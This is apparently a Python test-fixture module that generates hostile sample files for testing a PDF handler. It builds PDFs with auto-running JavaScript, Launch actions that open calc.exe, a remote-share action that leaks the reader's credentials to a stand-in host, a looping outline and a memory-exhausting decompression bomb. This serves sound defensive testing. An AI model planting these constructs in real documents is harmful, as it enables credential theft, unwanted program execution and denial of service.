"""Files as people and attackers send them; small, made on the spot."""

import io
import zlib
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from tempfile import TemporaryFile
from typing import Any, BinaryIO, cast

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf
from PIL import Image

from windows.demo.samples import sample_pdf

PDF = sample_pdf("平面图", "Floor plan")


def picture(kind: str, size: tuple[int, int] = (400, 300), **how: Any) -> bytes:
    out = io.BytesIO()
    Image.effect_noise(size, 80).convert("RGB").save(out, kind, **how)
    return out.getvalue()


def animated(kind: str) -> bytes:
    out = io.BytesIO()
    first, *others = (Image.new("RGB", (40, 30), colour) for colour in ("red", "green"))
    first.save(out, kind, save_all=True, append_images=others)
    return out.getvalue()


def pdf(change: Callable[[Pdf], None] | None = None, *, pages: int = 1, **how: Any) -> bytes:
    """Blank A4 pages, changed and saved as asked."""
    out = io.BytesIO()
    with pikepdf.new() as made:
        for _ in range(pages):
            made.add_blank_page(page_size=(595, 842))
        if change is not None:
            change(made)
        made.save(out, **how)
    return out.getvalue()


def action(kind: str, **more: Any) -> Dictionary:
    return Dictionary(S=Name(f"/{kind}"), **more)


SCRIPT = {"JS": "app.alert(1)"}


def opens_with(kind: str, **more: Any) -> bytes:
    def change(made: Pdf) -> None:
        made.Root.OpenAction = action(kind, **more)

    return pdf(change)


def script_by_name(made: Pdf) -> None:
    tree = Dictionary(Names=Array([pikepdf.String("a"), action("JavaScript", **SCRIPT)]))
    made.Root.Names = Dictionary(JavaScript=tree)


def script_on_page(made: Pdf) -> None:
    made.pages[0].obj.AA = Dictionary(O=action("JavaScript", **SCRIPT))


def script_after_a_jump(made: Pdf) -> None:
    made.Root.OpenAction = action("GoTo", D=Array([0]), Next=action("JavaScript", **SCRIPT))


def share_read_on_page(made: Pdf) -> None:
    """Opening the page fetches a file from a foreign machine, and with it the reader's log-in."""
    made.pages[0].obj.AA = Dictionary(O=action("GoToE", F="//198.51.100.7/share", D=Array([0])))


def annotated(made: Pdf, **keys: Any) -> None:
    note = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **keys)
    made.pages[0].obj.Annots = made.make_indirect(Array([made.make_indirect(note)]))
    made.Root.AcroForm = Dictionary(Fields=made.pages[0].obj.Annots)


def program_behind_link(made: Pdf) -> None:
    annotated(made, Subtype=Name.Link, A=action("Launch", F="calc.exe"))


def script_under_mouse(made: Pdf) -> None:
    annotated(made, Subtype=Name.Widget, AA=Dictionary(E=action("JavaScript", **SCRIPT)))


def film(made: Pdf) -> None:
    annotated(made, Subtype=Name.RichMedia)


def program_behind_bookmark(made: Pdf) -> None:
    mark = made.make_indirect(Dictionary(Title="a", A=action("Launch", F="calc.exe")))
    made.Root.Outlines = made.make_indirect(Dictionary(First=mark, Last=mark))
    mark.Next = mark  # a ring, which a reader must not run round


def dynamic_form(made: Pdf) -> None:
    made.Root.NeedsRendering = True


def adds_up(made: Pdf) -> None:
    """A form of a department: a sum that is worked out while somebody types, a button that sends."""
    annotated(
        made,
        Subtype=Name.Widget,
        A=action("SubmitForm", F="https://example.org"),
        AA=Dictionary(C=action("JavaScript", **SCRIPT), K=action("JavaScript", **SCRIPT)),
    )


def opens_at_a_page(made: Pdf) -> None:
    made.Root.OpenAction = Array([made.pages[0].obj, Name.Fit])


def portfolio(made: Pdf) -> None:
    made.Root.Collection = Dictionary(View=Name.D)


def with_attachment(made: Pdf) -> None:
    """As electronic invoices carry their data."""
    made.attachments["invoice.xml"] = pikepdf.AttachedFileSpec(
        made,
        b"<invoice/>",
        description="",
        filename="invoice.xml",
        mime_type="application/xml",
        creation_date="",
        mod_date="",
    )


def bomb_of_objects() -> bytes:
    """A few kilobytes, whose list of objects swells to more memory than a file may take."""
    swollen = zlib.compressobj(9)
    start, block = swollen.compress(b"\0"), swollen.flush(zlib.Z_FULL_FLUSH)
    block += swollen.compress(bytes(1 << 24)) + swollen.flush(zlib.Z_FULL_FLUSH)
    packed = start + block * 100 + swollen.flush()
    head = b"%PDF-1.5\n"
    stream = (
        b"1 0 obj\n<< /Type /XRef /Size 3 /Root 2 0 R /W [1 4 2] /Filter /FlateDecode /Length %d >>\nstream\n"
        % len(packed)
    )
    body = head + stream + packed + b"\nendstream\nendobj\n"
    return body + b"startxref\n%d\n%%%%EOF\n" % len(head)


@contextmanager
def as_file(content: bytes) -> Iterator[BinaryIO]:
    with TemporaryFile() as file:
        file.write(content)
        file.seek(0)
        yield cast("BinaryIO", file)
